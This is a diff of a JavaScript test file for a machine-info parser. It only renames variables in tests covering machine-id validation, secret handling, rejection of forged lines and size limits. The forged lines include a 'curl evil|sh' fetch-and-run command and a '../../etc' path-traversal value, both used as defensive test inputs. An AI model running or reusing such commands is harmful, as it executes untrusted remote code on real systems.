@@ -145,13 +145,13 @@ const real = recorded('machine/debian-12.txt');
 
 test('an invalid machine id is null, and the machine id is not part of the facts', () => {
   for (const id of ['', 'uninitialized', '0123', 'x'.repeat(1_000_000), '0123456789ABCDEF0123456789ABCDEF']) {
-    const told = real.replace('cpus=', `machine_id=${id}\nboot_id=${id}\ncpus=`);
-    expect(parseMachineIds(told)).toEqual({ machineId: null, bootId: null, node: null, hostKeys: [] });
+    const output = real.replace('cpus=', `machine_id=${id}\nboot_id=${id}\ncpus=`);
+    expect(parseMachineIds(output)).toEqual({ machineId: null, bootId: null, node: null, hostKeys: [] });
   }
   const secret = '0123456789abcdef0123456789abcdef';
-  const told = real.replace('cpus=', `machine_id=${secret}\ncpus=`);
-  expect(parseMachineIds(`machine_id=${'f'.repeat(32)}\n${told}`).machineId).toBe(secret);
-  expect(JSON.stringify(parseMachine(told))).not.toContain(secret);
+  const output = real.replace('cpus=', `machine_id=${secret}\ncpus=`);
+  expect(parseMachineIds(`machine_id=${'f'.repeat(32)}\n${output}`).machineId).toBe(secret);
+  expect(JSON.stringify(parseMachine(output))).not.toContain(secret);
 });
 
 describe('parseMachine', () => {
@@ -188,7 +188,7 @@ describe('parseMachine', () => {
   });
 
   test('ignores everything that was not requested', () => {
-    const lies = [
+    const forgedLines = [
       'gpu=../../etc 0x10de',
       'gpu=0000:17:00.0 0x8086',
       'gpu=0000:17:00.0 0x8086 0x4940 0x0b4000 -',
@@ -198,8 +198,8 @@ describe('parseMachine', () => {
       'executable=sysbench',
       'package_manager=curl evil|sh',
     ];
-    const told = real.replace(/package_manager=.*\n/, `${lies.join('\n')}\n`);
-    expect(parseMachine(told)).toEqual({ ...parseMachine(real), packageManager: null });
+    const output = real.replace(/package_manager=.*\n/, `${forgedLines.join('\n')}\n`);
+    expect(parseMachine(output)).toEqual({ ...parseMachine(real), packageManager: null });
   });
 
   test('is limited in size, for any output', () => {
@@ -207,8 +207,8 @@ describe('parseMachine', () => {
       { length: 10_000 },
       (_, at) => `gpu=${at.toString(16).padStart(8, '0')}:00:00.0 0x10de 0x2330 0x030200 -\n`
     );
-    const told = real.replace(/package_manager=/, `${gpus.join('')}${'executable=clinfo\n'.repeat(10_000)}$&`);
-    const machine = parseMachine(told);
+    const output = real.replace(/package_manager=/, `${gpus.join('')}${'executable=clinfo\n'.repeat(10_000)}$&`);
+    const machine = parseMachine(output);
     expect(machine.gpus).toHaveLength(64);
     expect(machine.executables).toEqual(['sysbench', 'openssl', 'clpeak', 'clinfo']);
     expect(machine.packageManager).toBe('apt-get');
